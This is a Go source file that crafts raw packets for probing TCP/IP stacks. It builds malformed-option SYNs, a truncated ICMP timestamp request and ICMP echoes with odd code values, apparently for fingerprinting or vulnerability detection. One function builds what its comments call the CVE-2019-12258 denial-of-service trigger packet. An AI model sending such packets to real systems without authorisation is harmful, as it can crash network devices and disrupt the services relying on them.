package main

import (
	"math/rand"
	"net"

	"github.com/google/gopacket"
	"github.com/google/gopacket/layers"
)

const (
	probeMSSHigh = 0x05 // 1460
	probeMSSLow  = 0xb4
	probeWindow  = 8192

	// Sequence and ack sentinel for the CVE trigger SYN. Deliberately
	// wrong for the reused connection: a stack that RSTs anyway never
	// validated them.
	dosSentinel = 0x4141
)

// icmpTimestampTruncated is a complete ICMP timestamp request cut
// below the mandated 20-byte minimum: type 13, code 0, checksum,
// id 0, seq 0, and none of the three timestamp words.
var icmpTimestampTruncated = []byte{0x0d, 0x00, 0xf2, 0xff, 0x00, 0x00, 0x00, 0x00}

func serializeTCP(src, dst net.IP, tcp *layers.TCP) ([]byte, error) {
	ip := &layers.IPv4{SrcIP: src, DstIP: dst, Protocol: layers.IPProtocolTCP}
	if err := tcp.SetNetworkLayerForChecksum(ip); err != nil {
		return nil, err
	}
	buf := gopacket.NewSerializeBuffer()
	opts := gopacket.SerializeOptions{FixLengths: true, ComputeChecksums: true}
	if err := gopacket.SerializeLayers(buf, opts, tcp); err != nil {
		return nil, err
	}
	return buf.Bytes(), nil
}

// buildMalformedOptionsSYN crafts a SYN whose option list carries a
// window-scale option with no payload (wire bytes 03 02) immediately
// before a correctly encoded one. gopacket derives each option length
// from its data, so the empty option serializes truncated.
func buildMalformedOptionsSYN(src, dst net.IP, sport, dport int) ([]byte, error) {
	tcp := &layers.TCP{
		SrcPort: layers.TCPPort(sport),
		DstPort: layers.TCPPort(dport),
		Seq:     rand.Uint32(),
		SYN:     true,
		Window:  probeWindow,
		Options: []layers.TCPOption{
			{OptionType: layers.TCPOptionKindMSS, OptionData: []byte{probeMSSHigh, probeMSSLow}},
			{OptionType: layers.TCPOptionKindNop},
			{OptionType: layers.TCPOptionKindWindowScale},
			{OptionType: layers.TCPOptionKindWindowScale, OptionData: []byte{0}},
		},
	}
	return serializeTCP(src, dst, tcp)
}

// buildDoSSYN crafts the CVE-2019-12258 trigger: a SYN on an already
// established port pair, sequence and ack set to the sentinel, with a
// lone truncated window-scale option.
func buildDoSSYN(src, dst net.IP, sport, dport int) ([]byte, error) {
	tcp := &layers.TCP{
		SrcPort: layers.TCPPort(sport),
		DstPort: layers.TCPPort(dport),
		Seq:     dosSentinel,
		Ack:     dosSentinel,
		SYN:     true,
		Window:  probeWindow,
		Options: []layers.TCPOption{
			{OptionType: layers.TCPOptionKindWindowScale},
		},
	}
	return serializeTCP(src, dst, tcp)
}

// buildICMPEcho crafts an echo request with an arbitrary code value.
// The code field means nothing in an echo request, which is exactly
// what the code-field method exploits.
func buildICMPEcho(code uint8) ([]byte, error) {
	icmp := &layers.ICMPv4{
		TypeCode: layers.CreateICMPv4TypeCode(layers.ICMPv4TypeEchoRequest, code),
		Id:       uint16(rand.Intn(0xffff)),
		Seq:      1,
	}
	buf := gopacket.NewSerializeBuffer()
	opts := gopacket.SerializeOptions{ComputeChecksums: true}
	if err := gopacket.SerializeLayers(buf, opts, icmp); err != nil {
		return nil, err
	}
	return buf.Bytes(), nil
}
